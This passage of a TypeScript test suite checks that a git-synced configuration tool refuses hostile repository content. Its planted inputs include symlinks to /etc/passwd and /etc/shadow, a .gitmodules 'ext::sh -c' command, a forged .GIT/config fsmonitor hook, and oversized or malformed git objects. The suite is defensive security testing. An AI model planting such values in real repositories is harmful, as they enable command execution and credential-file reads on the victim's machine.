// The hostile-twin corpus: a twin is untrusted input (it arrives from a mirror anyone with the
// token can push to). Every case plants one hostile thing (a symlink in a twin folder, a tree the
// mirror serves, a forged plan, a bad remote URL, a secret in what a push sends, a value of the
// wrong type) and asserts the coded refusal and that nothing outside the twin and the target
// changed: a sentinel tree (what a symlink points at) and the target root are checksummed before
// and after. In-process through the services the CLI calls, with real git, on a small
// hand-made target root, so the whole corpus runs in seconds.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { lstat, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { silentLogger, type Plan } from '@twinsync/sdk'
import { createContainer } from '../../core/src/container.js'
import type { DependencyContainer } from '../../core/src/di.js'
import { IntentService } from '../../core/src/intent/intent-service.js'
import { RemoteService } from '../../core/src/remote/remote-service.js'
import { checkRemoteUrl } from '../../core/src/remote/remote-url.js'
import { PlanWorkflow, readPlanFile, writePlanFile } from '../../core/src/services/make-plan.js'
import { SnapshotWorkflow } from '../../core/src/services/take-snapshot.js'
import { fakeChars } from '../fixtures/secrets/samples.js'
import { checksum, errorCode, git, GIT_ENV, noPlugins, smallTwin } from '../support/in-process-twin.js'
import { twinsyncLine } from '../../core/src/plan/command-text.js'
import { renderPlan } from '../../core/src/cli/render-plan.js'
import { changeLines } from '../../core/src/tui/change-detail.js'
/** Lines as a run on this machine's default twin and configuration says them (no flags). */
const LINE = (args: readonly string[]) => twinsyncLine(args, { root: '/' })


interface Rig {
  dir: string
  root: string
  twin: string
  sentinel: string
  mirror: string
  container: () => Promise<DependencyContainer>
}

/** A GitHub token and a private key as the SDK's detector knows them, built at run time. */
const TOKEN_LIKE = `ghp_${fakeChars('hostile-token', 36)}`
const KEY_LIKE = `-----BEGIN OPENSSH PRIVATE KEY-----\n${fakeChars('hostile-key', 64, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}\n-----END OPENSSH PRIVATE KEY-----\n`

/** The coded refusal of a plan: the error it threw, or its error diagnostics (apply refuses those). */
async function refusal(promise: Promise<Plan>): Promise<string[]> {
  try {
    const plan = await promise
    assert.ok(!JSON.stringify(plan).includes('host secret'), 'the plan shows a host file')
    return plan.diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.code} ${/(system|plans|scripts|filesystem)\/[^ ]*[^ .:]/.exec(d.summary)?.[0] ?? ''}`)
  } catch (error) {
    const e = error as { code?: string; details?: { path?: string } }
    return [`${e.code ?? `uncoded: ${(error as Error).message}`} ${e.details?.path ?? ''}`]
  }
}

/** The coded refusal (shared: a TwinSyncError's code, else `uncoded: …`). */
const code = errorCode

describe('hostile twin corpus: the twin is untrusted input', function () {
  this.timeout(120_000)
  let rig: Rig
  let initial: string
  let rootSum: string
  let sentinelSum: string

  before(async () => {
    let sentinel = ''
    const made = await smallTwin('twinsync-hostile-', {
      prepare: async (_root, dir) => {
        sentinel = join(dir, 'sentinel')
        await mkdir(join(sentinel, 'dir'), { recursive: true })
        await writeFile(join(sentinel, 'secret'), 'host secret\n', { mode: 0o600 })
        await writeFile(join(sentinel, 'plan.yaml'), 'actions:\n  - run: [touch, /tmp/twinsync-hostile-pwned]\n')
        await writeFile(join(sentinel, 'script.sh'), '#!/bin/sh\necho pwned\n', { mode: 0o755 })
        await writeFile(join(sentinel, 'dir/file'), 'inside\n', { mode: 0o600 })
      },
    })
    const { dir, root, twin } = made
    rig = { dir, root, twin, sentinel, mirror: join(dir, 'mirror.git'), container: made.container }
    execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', rig.mirror])
    await (await rig.container()).resolve(RemoteService).setGitRemote(rig.mirror, undefined)
    initial = made.initial
    rootSum = await checksum(root)
    sentinelSum = await checksum(sentinel)
  })

  after(async function () {
    if (rig !== undefined) await rm(rig.dir, { recursive: true, force: true })
    const defined = this.test?.parent?.tests.length ?? 0
    assert.ok(defined >= 60, `the corpus has ${defined} cases, fewer than 60`)
  })

  /** Back to the first snapshot: tags, branch, working tree and mirror. */
  beforeEach(async () => {
    git(rig.twin, ['reset', '--quiet', '--hard', initial])
    git(rig.twin, ['clean', '--quiet', '-fdx'])
    for (const tag of git(rig.twin, ['tag', '--list']).split('\n').filter(Boolean)) git(rig.twin, ['tag', '-d', tag])
    git(rig.twin, ['update-ref', '-d', 'refs/remotes/mirror/main'])
    await rm(rig.mirror, { recursive: true, force: true })
    execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', rig.mirror])
  })

  afterEach(async function () {
    if (this.currentTest?.state !== 'passed') return
    assert.equal(await checksum(rig.sentinel), sentinelSum, 'something outside the twin changed')
    assert.equal(await checksum(rig.root), rootSum, 'the target changed')
  })

  // ---- 1. symlinks in the working twin: never followed, by reads or writes -------------------

  const targets = {
    'absolute file': () => join(rig.sentinel, 'secret'),
    'absolute folder': () => rig.sentinel,
    relative: () => '../../../sentinel/secret',
    dangling: () => join(rig.sentinel, 'missing'),
  } as const

  for (const [kind, to] of Object.entries(targets)) {
    it(`snapshot commits the machine's file for a ${kind} symlink at a twin document (filesystem/etc/motd), never writing through it; the link stays pending`, async () => {
      await rm(join(rig.twin, 'filesystem/etc/motd'))
      await symlink(to(), join(rig.twin, 'filesystem/etc/motd'))
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      // The machine's file is committed; the link, which the files provider never follows nor
      // applies, is the person's edit: kept as it was, pending (before session 40 it was replaced
      // by the machine's file without a word), never read through.
      assert.equal(git(rig.twin, ['show', 'HEAD:filesystem/etc/motd']), 'Welcome\n')
      assert.ok((await lstat(join(rig.twin, 'filesystem/etc/motd'))).isSymbolicLink())
      const pending = await (await rig.container()).resolve(IntentService).pending()
      assert.deepEqual(pending.items.map((i) => [i.id, i.code]), [['files:replace:/etc/motd', 'FILES_TWIN_SYMLINK_NOT_PLANNED']])
      assert.ok(!JSON.stringify(pending).includes('host secret'))
    })
  }

  for (const folder of ['filesystem/etc', 'filesystem', 'system', 'system/files']) {
    it(`snapshot replaces a symlinked folder ${folder}/ instead of creating files through it`, async () => {
      await rm(join(rig.twin, folder), { recursive: true })
      await symlink(join(rig.sentinel, 'dir'), join(rig.twin, folder))
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      // Committed: the machine's documents under a real folder, never the link's content.
      assert.equal(git(rig.twin, ['cat-file', '-t', `HEAD:${folder}`]).trim(), 'tree')
      assert.ok(!git(rig.twin, ['ls-tree', '-r', 'HEAD']).includes('120000'))
    })
  }

  for (const doc of ['system/os.json', 'system/files/manifest.json']) {
    it(`snapshot commits the document for a symlinked ${doc}, never the link's target`, async () => {
      await rm(join(rig.twin, doc))
      await symlink(join(rig.sentinel, 'secret'), join(rig.twin, doc))
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      assert.match(git(rig.twin, ['ls-tree', 'HEAD', doc]), /^100644 blob /)
      assert.ok(!git(rig.twin, ['show', `HEAD:${doc}`]).includes('host secret'))
      // An edit stays pending as it was (a link: an applying domain's refused on every read, a
      // description's DESCRIPTION_EDIT_NOT_APPLIED until discarded), never read through.
      const s = await lstat(join(rig.twin, doc))
      assert.ok(s.isFile() || s.isSymbolicLink())
      if (s.isSymbolicLink()) {
        const pending = await (await rig.container()).resolve(IntentService).pending()
        assert.ok(pending.paths.includes(doc), JSON.stringify(pending.paths))
        assert.ok(!JSON.stringify(pending).includes('host secret'))
      }
    })
  }

  it('plan refuses a symlinked files manifest, naming it (an error in the plan, so apply refuses it)', async () => {
    await rm(join(rig.twin, 'system/files/manifest.json'))
    await symlink(join(rig.sentinel, 'secret'), join(rig.twin, 'system/files/manifest.json'))
    assert.deepEqual(await refusal((await rig.container()).resolve(PlanWorkflow).plan({})), ['TWIN_SYMLINK system/files/manifest.json'])
  })

  for (const [kind, to] of Object.entries(targets)) {
    it(`plan does not read through a ${kind} symlink at filesystem/etc/motd: FILES_TWIN_SYMLINK_NOT_PLANNED, nothing planned for it`, async () => {
      await rm(join(rig.twin, 'filesystem/etc/motd'))
      await symlink(to(), join(rig.twin, 'filesystem/etc/motd'))
      const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
      assert.ok(plan.diagnostics.some((d) => d.code === 'FILES_TWIN_SYMLINK_NOT_PLANNED' && d.path === '/etc/motd'), JSON.stringify(plan.diagnostics))
      assert.deepEqual(plan.changes.filter((c) => c.resource === '/etc/motd'), [])
      assert.ok(!JSON.stringify(plan).includes('host secret'))
    })
  }

  it('plan does not read a new file planted as a symlink under filesystem/', async () => {
    await symlink(join(rig.sentinel, 'secret'), join(rig.twin, 'filesystem/etc/planted'))
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.ok(plan.diagnostics.some((d) => d.code === 'FILES_TWIN_SYMLINK_NOT_PLANNED' && d.path === '/etc/planted'))
    assert.ok(!JSON.stringify(plan).includes('host secret'))
  })

  it('plan does not descend into a symlinked folder under filesystem/', async () => {
    await symlink(join(rig.sentinel, 'dir'), join(rig.twin, 'filesystem/etc/linked'))
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.ok(!JSON.stringify(plan).includes('inside'))
    assert.deepEqual(plan.changes.filter((c) => c.resource.startsWith('/etc/linked')), [])
  })

  for (const [what, make] of [
    ['a symlinked instruction file', async () => symlink(join(rig.sentinel, 'plan.yaml'), join(rig.twin, 'plans/evil.yaml'))],
    ['a relative symlinked instruction file', async () => symlink('../../sentinel/plan.yaml', join(rig.twin, 'plans/evil.yaml'))],
    [
      'a symlinked plans/ folder',
      async () => {
        await rm(join(rig.twin, 'plans'), { recursive: true })
        await symlink(rig.sentinel, join(rig.twin, 'plans'))
      },
    ],
  ] as const) {
    it(`plan refuses ${what} with TWIN_SYMLINK`, async () => {
      await make()
      assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'TWIN_SYMLINK')
    })
  }

  for (const [what, make] of [
    ['a symlinked script', async () => symlink(join(rig.sentinel, 'script.sh'), join(rig.twin, 'scripts/run.sh'))],
    ['a script in a symlinked scripts/ folder', async () => {
      await rm(join(rig.twin, 'scripts'), { recursive: true })
      await symlink(rig.sentinel, join(rig.twin, 'scripts'))
    }],
    ['a script that links to a host file', async () => symlink('/etc/passwd', join(rig.twin, 'scripts/run.sh'))],
  ] as const) {
    it(`plan refuses ${what}, naming it, and never copies its content`, async () => {
      await make()
      await writeFile(join(rig.twin, 'plans/run.yaml'), 'actions:\n  - script: run.sh\n')
      const error = await (await rig.container()).resolve(PlanWorkflow).plan({}).then(
        () => undefined,
        (e: unknown) => e as { code: string; details?: { path?: string } },
      )
      // A script under a symlinked folder is named by the folder; a symlinked script by itself.
      assert.ok(error?.code === 'TWIN_SYMLINK' || error?.code === 'SCRIPT_INVALID', JSON.stringify(error))
      if (error?.code === 'TWIN_SYMLINK') assert.match(String(error.details?.path), /^scripts(\/run\.sh)?$/)
    })
  }

  it('plan refuses a symlinked record of run-once commands', async () => {
    await mkdir(join(rig.twin, 'system/journal'), { recursive: true })
    await symlink(join(rig.sentinel, 'secret'), join(rig.twin, 'system/journal/commands.json'))
    await writeFile(join(rig.twin, 'plans/x.yaml'), 'actions:\n  - run: [true]\n')
    assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'TWIN_SYMLINK')
  })

  it('every command refuses a symlinked twin.json', async () => {
    await rm(join(rig.twin, 'twin.json'))
    await symlink(join(rig.sentinel, 'secret'), join(rig.twin, 'twin.json'))
    assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'TWIN_SYMLINK')
    assert.equal(await code((await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })), 'TWIN_SYMLINK')
  })

  it('a symlink loop in the twin is refused, not spun on', async () => {
    await symlink('loop.yaml', join(rig.twin, 'plans/loop.yaml'))
    assert.equal(await code((await rig.container()).resolve(PlanWorkflow).plan({})), 'TWIN_SYMLINK')
  })

  it('a FIFO planted in plans/ does not hang the plan', async () => {
    execFileSync('mkfifo', [join(rig.twin, 'plans/fifo.yaml')])
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.changes.filter((c) => c.provider === 'commands'), [])
  })

  // ---- 2. history: a symlink committed to the twin is refused when planning from a commit ----

  for (const path of ['system/os.json', 'plans/evil.yaml', 'scripts/run.sh', 'system/files/manifest.json']) {
    it(`plan --from a commit refuses a committed symlink at ${path}`, async () => {
      await rm(join(rig.twin, path), { force: true })
      await symlink(join(rig.sentinel, 'secret'), join(rig.twin, path))
      if (path.startsWith('scripts/')) await writeFile(join(rig.twin, 'plans/run.yaml'), 'actions:\n  - script: run.sh\n')
      git(rig.twin, ['add', '-A'])
      git(rig.twin, ['commit', '--quiet', '-m', 'hostile'])
      const got = await refusal((await rig.container()).resolve(PlanWorkflow).plan({ from: 'HEAD' }))
      // os.json is a read-only fact: nothing loads it from history, so it is not even read.
      if (path === 'system/os.json') assert.deepEqual(got, [])
      else assert.deepEqual(got, [`TWIN_SYMLINK ${path}`])
    })
  }

  // ---- 3. pull: the incoming tree is checked before the working twin moves -------------------

  /** Push a commit on top of the twin to the mirror, built from a tree the test writes by hand. */
  const serve = (edit: (clone: string) => void) => {
    git(rig.twin, ['push', '--quiet', rig.mirror, 'HEAD:refs/heads/main'])
    const clone = join(rig.dir, `clone-${Date.now()}`)
    execFileSync('git', ['clone', '--quiet', rig.mirror, clone])
    edit(clone)
    git(clone, ['push', '--quiet', 'origin', 'HEAD:refs/heads/main'])
    execFileSync('rm', ['-rf', clone])
  }
  const commitTree = (clone: string, extra: string) => {
    // extra: ls-tree lines ("mode type id\tname") added to the top-level tree.
    const top = git(clone, ['ls-tree', '-z', 'HEAD']).split('\0').filter(Boolean)
    const tree = git(clone, ['mktree', '-z'], Buffer.from([...top, extra].join('\0') + '\0')).trim()
    const commit = git(clone, ['commit-tree', tree, '-p', 'HEAD', '-m', 'hostile']).trim()
    git(clone, ['update-ref', 'HEAD', commit])
  }
  const blob = (clone: string, text: string) => git(clone, ['hash-object', '-w', '--stdin'], text).trim()
  const subtree = (clone: string, entries: string[]) => git(clone, ['mktree', '-z'], Buffer.from(entries.join('\0') + '\0')).trim()

  const unsafeTrees: Array<[string, (clone: string) => void]> = [
    ['a symlinked system/os.json', (c) => withSymlink(c, 'system/os.json', join(rig.sentinel, 'secret'))],
    ['a symlinked plans/ instruction', (c) => withSymlink(c, 'plans/evil.yaml', join(rig.sentinel, 'plan.yaml'))],
    ['a symlinked script', (c) => withSymlink(c, 'scripts/run.sh', '/etc/shadow')],
    ['a symlinked twin.json', (c) => withSymlink(c, 'twin.json', join(rig.sentinel, 'secret'))],
    ['a symlinked top-level system folder', (c) => {
      const top = git(c, ['ls-tree', '-z', 'HEAD']).split('\0').filter(Boolean).filter((l) => !l.endsWith('\tsystem'))
      const tree = git(c, ['mktree', '-z'], Buffer.from([...top, `120000 blob ${blob(c, rig.sentinel)}\tsystem`].join('\0') + '\0')).trim()
      git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-m', 'hostile']).trim()])
    }],
    ['a symlinked README at the top', (c) => commitTree(c, `120000 blob ${blob(c, '/etc/passwd')}\tREADME.md`)],
    ['a submodule (gitlink)', (c) => commitTree(c, `160000 commit ${git(c, ['rev-parse', 'HEAD']).trim()}\tvendor`)],
    ['a .gitmodules file', (c) => commitTree(c, `100644 blob ${blob(c, '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n')}\t.gitmodules`)],
    ['a folder named .GIT', (c) => commitTree(c, `040000 tree ${subtree(c, [`100644 blob ${blob(c, '[core]\n\tfsmonitor = touch /tmp/pwned\n')}\tconfig`])}\t.GIT`)],
    ['a folder named ..', (c) => commitTree(c, `040000 tree ${subtree(c, [`100644 blob ${blob(c, 'x')}\tescape`])}\t..`)],
    ['a name with a newline', (c) => commitTree(c, `100644 blob ${blob(c, 'x')}\tplans/\nevil.yaml`.replace('plans/\n', 'a\n'))],
    ['a name with an escape sequence', (c) => commitTree(c, `100644 blob ${blob(c, 'x')}\t\u001b[2Jclear`)],
    // Session 23: trees git's own fsck calls broken, which mktree will not write. Before, the first
    // two failed the pull as GIT_FAILED ("fix what git reports" in the twin, which is fine), and a
    // name holding a "/" was checked out as a folder and a file no tree of the mirror names.
    ['a tree holding one name twice', (c) => rawTopTree(c, (top) => Buffer.concat([top, rawEntry('100644', 'twin.json', blob(c, '{}\n'))]))],
    ['a tree whose entries are out of git\'s order', (c) => rawTopTree(c, (top) => Buffer.concat([rawEntry('100644', 'zz', blob(c, 'x')), top]))],
    ['a tree entry whose name holds a slash', (c) => rawTopTree(c, (top) => Buffer.concat([top, rawEntry('100644', 'zz/evil', blob(c, 'x'))]))],
  ]

  /** One raw tree entry ("<mode> <name>\0" and the id's bytes), as git writes it. */
  const rawEntry = (mode: string, name: string, id: string) => Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(id, 'hex')])
  /** Commit on HEAD a top-level tree made by `edit` from HEAD's raw one, written as is (no sorting, no checks). */
  function rawTopTree(clone: string, edit: (top: Buffer) => Buffer): void {
    const top = execFileSync('git', ['-C', clone, 'cat-file', 'tree', 'HEAD^{tree}'])
    const tree = execFileSync('git', ['-C', clone, 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin'], { input: edit(top) }).toString().trim()
    git(clone, ['update-ref', 'HEAD', git(clone, ['commit-tree', tree, '-p', 'HEAD', '-m', 'hostile']).trim()])
  }

  function withSymlink(clone: string, path: string, target: string): void {
    execFileSync('rm', ['-rf', join(clone, path)])
    execFileSync('ln', ['-s', target, join(clone, path)])
    git(clone, ['add', '-A'])
    git(clone, ['commit', '--quiet', '-m', 'hostile'])
  }

  for (const [what, edit] of unsafeTrees) {
    it(`pull refuses a mirror tree with ${what} as a whole, before the working twin moves`, async () => {
      serve(edit)
      const before = git(rig.twin, ['rev-parse', 'HEAD'])
      assert.equal(await code((await rig.container()).resolve(RemoteService).pull()), 'TWIN_UNSAFE')
      assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
      assert.equal(git(rig.twin, ['status', '--porcelain', '--ignored']), '')
    })
  }

  // Session 45: sizes were the last tree's check only; a commit before it could hold any blob, which
  // history and show then read whole (700 MB: show took 2.9 GB and blamed the apt provider).
  it('pull refuses a mirror history whose earlier commit holds a file over 64 MiB that the last commit takes out again: TWIN_UNSAFE naming it, before the working twin moves', async () => {
    const { MAX_TWIN_FILE_BYTES } = await import('../../core/src/twin/twin-files.js')
    serve((c) => {
      const big = git(c, ['hash-object', '-w', '--stdin'], Buffer.alloc(MAX_TWIN_FILE_BYTES + 1, 0x20)).trim()
      const tree = git(c, ['rev-parse', 'HEAD^{tree}']).trim()
      commitTree(c, `100644 blob ${big}\tbig.json`)
      git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-m', 'taken out again']).trim()])
    })
    const before = git(rig.twin, ['rev-parse', 'HEAD'])
    const refused = await (await rig.container()).resolve(RemoteService).pull().then(() => undefined, (e: Error & { code?: string }) => e)
    assert.equal(refused?.code, 'TWIN_UNSAFE', String(refused))
    assert.match(refused?.message ?? '', /big\.json \(larger than 67108864 bytes\)/)
    assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
    assert.equal(git(rig.twin, ['status', '--porcelain', '--ignored']), '')
  })

  // Session 46 (L2 of session 45's review): sizes were asked of files only; a symlink's blob (its
  // "target") was never size-checked, in the last tree or a commit before it, and show and
  // history read it whole.
  for (const where of ['in the last tree', 'in an earlier commit the last one takes out again']) {
    it(`pull refuses a symlink under filesystem/ whose target is over 4095 bytes ${where}: TWIN_UNSAFE naming it, before the working twin moves`, async () => {
      serve((c) => {
        const tree = git(c, ['rev-parse', 'HEAD^{tree}']).trim()
        const target = blob(c, `/${'a'.repeat(5000)}`)
        const below = git(c, ['ls-tree', '-z', 'HEAD:filesystem']).split('\0').filter(Boolean)
        const folder = subtree(c, [...below, `120000 blob ${target}\tlong-link`])
        const top = git(c, ['ls-tree', '-z', 'HEAD']).split('\0').filter(Boolean).map((l) => (l.endsWith('\tfilesystem') ? `040000 tree ${folder}\tfilesystem` : l))
        git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', subtree(c, top), '-p', 'HEAD', '-m', 'a long link']).trim()])
        if (where !== 'in the last tree') git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-m', 'taken out again']).trim()])
      })
      const before = git(rig.twin, ['rev-parse', 'HEAD'])
      const refused = await (await rig.container()).resolve(RemoteService).pull().then(() => undefined, (e: Error & { code?: string }) => e)
      assert.equal(refused?.code, 'TWIN_UNSAFE', String(refused))
      assert.match(refused?.message ?? '', /filesystem\/long-link \(a symlink whose target is longer than 4095 bytes\)/)
      assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
      assert.equal(git(rig.twin, ['status', '--porcelain', '--ignored']), '')
    })
  }

  // Session 46: a tree object was read whole before its entries were counted. One folder of
  // 240,000 entries named with 255 bytes (68 MB, under the 500,000-file count) is refused from
  // its size alone.
  it('pull refuses a commit on the mirror with a folder object over 64 MiB, asked its size, never read: TWIN_UNSAFE naming it, before the working twin moves', async () => {
    serve((c) => {
      const tree = git(c, ['rev-parse', 'HEAD^{tree}']).trim()
      const id = Buffer.from(blob(c, ''), 'hex')
      const entries: Buffer[] = []
      for (let i = 0; i < 240_000; i++) entries.push(Buffer.from(`100644 ${String(i).padStart(10, '0')}${'x'.repeat(245)}\0`, 'latin1'), id)
      const big = git(c, ['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], Buffer.concat(entries)).trim()
      commitTree(c, `040000 tree ${big}\tbig`)
      git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-m', 'taken out again']).trim()])
    })
    const before = git(rig.twin, ['rev-parse', 'HEAD'])
    const refused = await (await rig.container()).resolve(RemoteService).pull().then(() => undefined, (e: Error & { code?: string }) => e)
    assert.equal(refused?.code, 'TWIN_UNSAFE', String(refused))
    assert.match(refused?.message ?? '', /^Not pulled: the mirror's tree [0-9a-f]{12} \(one folder's entries\) is 67,920,\d{3} bytes, more than the 67,108,864 TwinSync takes from a mirror$/)
    assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
    assert.equal(git(rig.twin, ['status', '--porcelain', '--ignored']), '')
  })

  // Session 45: a commit's message was read whole by every command after the pull (600 MB: status
  // 7 s and 0.6 GB, history GIT_FAILED for good).
  it('pull refuses a mirror commit whose message is over 1 MiB: TWIN_UNSAFE naming its size, before the working twin moves', async () => {
    serve((c) => {
      const tree = git(c, ['rev-parse', 'HEAD^{tree}']).trim()
      const big = join(rig.dir, 'message.txt')
      writeFileSync(big, `deploy\n\n${'x'.repeat(1024 * 1024)}\n`)
      git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-F', big]).trim()])
      git(c, ['update-ref', 'HEAD', git(c, ['commit-tree', tree, '-p', 'HEAD', '-m', 'small on top']).trim()])
    })
    const before = git(rig.twin, ['rev-parse', 'HEAD'])
    const refused = await (await rig.container()).resolve(RemoteService).pull().then(() => undefined, (e: Error & { code?: string }) => e)
    assert.equal(refused?.code, 'TWIN_UNSAFE', String(refused))
    assert.match(refused?.message ?? '', /^Not pulled: a commit on the mirror [0-9a-f]{12} is 1,048,[0-9]{3} bytes \(its message\), more than the 1,048,576 TwinSync takes from a mirror$/)
    assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
    assert.equal(git(rig.twin, ['status', '--porcelain', '--ignored']), '')
  })

  // Session 42: a snapshot mirrors a machine file whose name holds a control character (a user's
  // ~/.config/$'a\nb' is mirrored by default); once pushed, every later pull was refused whole
  // for that unchanged entry. What the mirror brings is still judged: a change to that file is not.
  it("pull takes a mirror tree whose refused name is one the twin's own snapshot holds, unchanged; a mirror's change to that file is still TWIN_UNSAFE", async () => {
    const machineFile = join(rig.root, 'etc', 'ctl\nname.conf')
    await writeFile(machineFile, 'made on the machine\n')
    try {
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      assert.equal(git(rig.twin, ['show', 'HEAD:filesystem/etc/ctl\nname.conf']), 'made on the machine\n', 'the snapshot holds it')
      const edit = (path: string) => (c: string) => {
        writeFileSync(join(c, path), 'from the mirror\n')
        git(c, ['add', '-A'])
        git(c, ['commit', '--quiet', '-m', `edit ${path}`])
      }
      serve(edit('filesystem/etc/ctl\nname.conf'))
      const before = git(rig.twin, ['rev-parse', 'HEAD'])
      assert.equal(await code((await rig.container()).resolve(RemoteService).pull()), 'TWIN_UNSAFE')
      assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before)
      git(rig.twin, ['update-ref', '-d', 'refs/remotes/mirror/main'])
      await rm(rig.mirror, { recursive: true, force: true })
      execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', rig.mirror])
      serve(edit('filesystem/etc/motd'))
      assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
      assert.equal(git(rig.twin, ['show', 'HEAD:filesystem/etc/motd']), 'from the mirror\n')
      assert.equal(git(rig.twin, ['show', 'HEAD:filesystem/etc/ctl\nname.conf']), 'made on the machine\n')
    } finally {
      await rm(machineFile, { force: true })
    }
  })

  // Session 43: a fresh twin (its init commit, no snapshot of its own) pulling its machine's mirror
  // (the twin lost, the machine reinstalled) was refused whole for the mirror's snapshot's own
  // entry named with a control character: TWIN_UNSAFE, "remove those entries from the mirror",
  // the machine's record of that file lost. With no record of its own every entry is the mirror's:
  // such a name is taken under filesystem/ (a machine file's); outside filesystem/ it is refused.
  it('a fresh twin takes its mirror whose snapshot holds a machine file named with a newline (pull says diverged, --take-mirror takes it); the same name outside filesystem/ is still TWIN_UNSAFE', async () => {
    const machineFile = join(rig.root, 'etc', 'fresh\nname.conf')
    await writeFile(machineFile, 'made on the machine\n')
    const { InitWorkflow } = await import('../../core/src/services/init-twin.js')
    const fresh = async (name: string) => {
      const repo = join(rig.dir, name)
      const container = () => createContainer({ root: rig.root, repo, configPath: join(rig.dir, 'config.yaml'), oclif: noPlugins, logger: silentLogger })
      await (await container()).resolve(InitWorkflow).init()
      await (await container()).resolve(RemoteService).setGitRemote(rig.mirror, undefined)
      return { repo, remote: async () => (await container()).resolve(RemoteService) }
    }
    try {
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      git(rig.twin, ['push', '--quiet', rig.mirror, 'HEAD:refs/heads/main'])
      const one = await fresh('fresh-one')
      assert.equal(await code((await one.remote()).pull()), 'REMOTE_DIVERGED', 'judged like any other entry: only the init commit differs')
      assert.equal((await (await one.remote()).pull({ takeMirror: true })).status, 'took-mirror')
      assert.equal(git(one.repo, ['show', 'HEAD:filesystem/etc/fresh\nname.conf']), 'made on the machine\n')
      assert.equal(readFileSync(join(one.repo, 'filesystem/etc/fresh\nname.conf'), 'utf8'), 'made on the machine\n')
      // Outside filesystem/ no provider makes such a name: still refused, into a fresh twin too.
      serve((c) => {
        writeFileSync(join(c, 'system/evil\nname.json'), '{}\n')
        git(c, ['add', '-A'])
        git(c, ['commit', '--quiet', '-m', 'hostile'])
      })
      const two = await fresh('fresh-two')
      const before = git(two.repo, ['rev-parse', 'HEAD'])
      assert.equal(await code((await two.remote()).pull({ takeMirror: true })), 'TWIN_UNSAFE')
      assert.equal(git(two.repo, ['rev-parse', 'HEAD']), before)
    } finally {
      await rm(machineFile, { force: true })
    }
  })

  it('a machine file named with a newline: the plan\'s diff header spells the name out (`\\n`), one line in the CLI and the TUI alike, as the change\'s line does (before session 42 the header split in two and its second half read as a line of the plan)', async () => {
    const machineFile = join(rig.root, 'etc', 'diff\nheader.conf')
    await writeFile(machineFile, 'a header test, made on the machine\n')
    try {
      await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
      await writeFile(machineFile, 'changed on the machine\n')
      const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
      const change = plan.changes.find((c) => c.resource === '/etc/diff\nheader.conf')
      assert.ok(change?.diff !== undefined, JSON.stringify(plan.changes))
      assert.match(change.diff, /^--- a\/etc\/diff\\nheader\.conf\n\+\+\+ b\/etc\/diff\\nheader\.conf\n@@ /m, change.diff)
      const cli = renderPlan(plan, LINE).split('\n')
      const tui = changeLines(change).map((l) => l.text)
      for (const [front, lines] of [['CLI', cli], ['TUI', tui]] as const) {
        assert.ok(lines.some((l) => l.trim() === '--- a/etc/diff\\nheader.conf'), `${front}: ${lines.join('\n')}`)
        assert.ok(lines.some((l) => l.trim() === '+++ b/etc/diff\\nheader.conf'), `${front}: ${lines.join('\n')}`)
        assert.deepEqual(lines.filter((l) => l.trim().startsWith('header.conf')), [], `${front}: a line of the name's second half`)
      }
    } finally {
      await rm(machineFile, { force: true })
    }
  })

  it('a mirror\'s executable bit is honoured, never dropped: chmod +x of a listed file plans its mode with x where r is, a new script pushed 100755 is planned 0755, status lists both, and a snapshot keeps them (before session 42: "in sync", 0644, and the snapshot wrote 100644)', async () => {
    serve((c) => {
      writeFileSync(join(c, 'filesystem/etc/backup.sh'), '#!/bin/sh\necho backup\n')
      git(c, ['add', 'filesystem/etc/backup.sh'])
      git(c, ['update-index', '--chmod=+x', 'filesystem/etc/motd', 'filesystem/etc/backup.sh'])
      git(c, ['commit', '--quiet', '-m', 'executable'])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    assert.match(git(rig.twin, ['ls-tree', 'HEAD', 'filesystem/etc/motd']), /^100755 /)
